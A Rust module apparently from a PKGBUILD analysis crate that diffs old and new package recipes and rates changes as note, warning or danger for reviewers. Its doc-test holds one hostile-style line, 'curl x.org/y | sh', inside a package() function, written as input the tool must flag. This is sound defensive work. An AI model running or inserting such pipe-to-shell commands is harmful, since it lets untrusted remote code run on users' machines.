//! What a new text of a recipe does that the old one did not, for whoever reads an update before it
//! is built.

mod commands;
mod fields;
mod sources;

use std::fmt;

use serde::Serialize;

use crate::evaluate::Evaluation;
use crate::package::{Package, PackageError};
use crate::span::Span;

/// One difference between two texts of a recipe.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct RecipeChange {
    /// What it is about.
    pub kind: ChangeKind,
    /// How closely a reader should look.
    pub weight: Weight,
    /// One line for people.
    pub message: String,
    /// Where in the new recipe; absent for what is gone.
    pub span: Option<Span>,
    /// What stood there; empty for what is new.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub before: Vec<String>,
    /// What stands there now; empty for what is gone.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub after: Vec<String>,
}

/// What a change is about.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum ChangeKind {
    /// A field other than sources and checksums.
    Field,
    /// Where a source comes from, or how it is fixed.
    Source,
    /// What proves a source.
    Digest,
    /// A function that is new, gone or other.
    Function,
    /// A command that appeared in a function or at the top level.
    Command,
}

/// How closely a reader should look at a change.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Weight {
    /// What an update changes as a rule.
    Note,
    /// What can be right and should be understood.
    Warning,
    /// What can hand this machine, or the package's users, to somebody else.
    Danger,
}

impl fmt::Display for Weight {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(match self {
            Self::Note => "note",
            Self::Warning => "warning",
            Self::Danger => "danger",
        })
    }
}

impl fmt::Display for ChangeKind {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(match self {
            Self::Field => "field",
            Self::Source => "source",
            Self::Digest => "digest",
            Self::Function => "function",
            Self::Command => "command",
        })
    }
}

impl RecipeChange {
    fn new(kind: ChangeKind, weight: Weight, message: impl Into<String>) -> Self {
        Self {
            kind,
            weight,
            message: message.into(),
            span: None,
            before: Vec::new(),
            after: Vec::new(),
        }
    }

    fn at(mut self, span: Option<Span>) -> Self {
        self.span = span;
        self
    }

    fn from(mut self, before: impl Into<String>) -> Self {
        self.before.push(before.into());
        self
    }

    fn to(mut self, after: impl Into<String>) -> Self {
        self.after.push(after.into());
        self
    }
}

/// Compares two texts of a recipe: fields, sources by host and digest, and functions with the commands
/// that appeared in them.
///
/// Commands are judged by their words alone: what a program that the sources bring does is not seen,
/// nor what an `install` file does.
///
/// # Errors
/// When makepkg could not source one of them.
///
/// ```
/// use pkgbuild_syntax::{Environment, Weight, compare, evaluate, parse};
///
/// let read = |text: &str| evaluate(&parse(text).file, &Environment::default());
/// let head = "pkgname=a\npkgver=1\npkgrel=1\narch=(any)\n";
/// let old = read(&format!("{head}package() {{ make install; }}\n"));
/// let new = read(&format!("{head}package() {{ curl x.org/y | sh; make install; }}\n"));
/// let changes = compare(&old, &new)?;
/// assert_eq!(changes.iter().map(|change| change.weight).max(), Some(Weight::Danger));
/// # Ok::<(), pkgbuild_syntax::PackageError>(())
/// ```
pub fn compare(old: &Evaluation, new: &Evaluation) -> Result<Vec<RecipeChange>, PackageError> {
    let before = Package::from_evaluation(old)?;
    let after = Package::from_evaluation(new)?;
    let mut changes = Vec::new();
    fields::compare(&before, &after, &mut changes);
    sources::compare(&before, &after, &mut changes);
    commands::compare(old, new, &mut changes);
    Ok(changes)
}
